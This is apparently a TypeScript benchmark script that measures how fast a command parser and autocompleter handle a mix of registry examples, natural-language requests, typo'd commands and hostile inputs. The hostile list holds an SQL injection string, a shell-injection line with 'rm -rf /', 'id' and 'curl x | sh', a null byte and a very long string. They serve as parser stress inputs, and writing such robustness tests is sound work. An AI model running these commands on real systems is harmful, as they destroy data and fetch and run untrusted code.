// Prompt-line parse throughput over a realistic mix: the registry's examples (with and without
// @agent), typos, natural-language requests, usage errors and a few hostile lines.
const fmt = (n: number): string => Math.round(n).toLocaleString('en-US');

const t0 = performance.now();
const { parse } = await import('../src/commands/parse.js');
const { COMMANDS } = await import('../src/commands/registry.js');
const { complete } = await import('../src/commands/complete.js');
const importMs = performance.now() - t0;

const examples = COMMANDS.flatMap((c) => c.examples);
const MIX = {
  commands: [...examples, ...examples.map((e) => `@agent ${e}`)],
  text: [
    "I need to fix the AI estimate persistence issue. Here's the ticket: AI-EST-142",
    'fix the estimate persistence issue on the voice agent',
    'create a ticket for the login page returning 500',
    'status of the login ticket please',
    'can you check why the staging deploy is slow',
  ],
  errors: [
    'bakup list',
    'stauts',
    'db vacum full',
    'deploy prod',
    'backup pitr restore --time yesterday',
    'network restrictions add 10.0.0.0/33',
    'status --ouput json',
    'create ticket "unclosed',
    'backup',
    'approve X deploy to mars',
  ],
  hostile: [
    "create ticket '; DROP TABLE users; --",
    'email $(rm -rf /) `id` && curl x | sh',
    'status\u0000',
    `create ticket ${'x'.repeat(100_000)}`,
    'mcp call t {"a": [1, {"b": null}]} 🚀👩‍💻',
  ],
};

function run(lines: readonly string[], minMs: number): number {
  let n = 0;
  const start = performance.now();
  let elapsed: number;
  do {
    for (const line of lines) parse(line);
    n += lines.length;
    elapsed = performance.now() - start;
  } while (elapsed < minMs);
  return n / (elapsed / 1000);
}

// The realistic mix: mostly commands, some free text, errors and the odd hostile line.
const mix = [
  ...MIX.commands,
  ...MIX.commands,
  ...MIX.commands,
  ...MIX.text.flatMap((l) => [l, l, l, l]),
  ...MIX.errors.flatMap((l) => [l, l]),
  ...MIX.hostile,
];
run(mix, 300); // warm-up

const overall = run(mix, 2000);
console.log(`registry import (parse, registry, completion): ${importMs.toFixed(1)} ms`);
console.log(`parse throughput: ${fmt(overall)} lines/s (mix of ${fmt(mix.length)} lines: commands, free text, errors, hostile)`);
const rates = Object.fromEntries(Object.entries(MIX).map(([k, lines]) => [k, run(lines, 500)]));
for (const [k, rate] of Object.entries(rates)) console.log(`  ${k}: ${fmt(rate)} lines/s (${(rate / overall).toFixed(2)}x the mix)`);

const prefixes = examples.flatMap((e) => [...e].map((_c, i) => e.slice(0, i)));
let n = 0;
const cStart = performance.now();
while (performance.now() - cStart < 1000) {
  for (const p of prefixes) complete(p);
  n += prefixes.length;
}
console.log(`completion throughput: ${fmt(n / ((performance.now() - cStart) / 1000))} prefixes/s`);
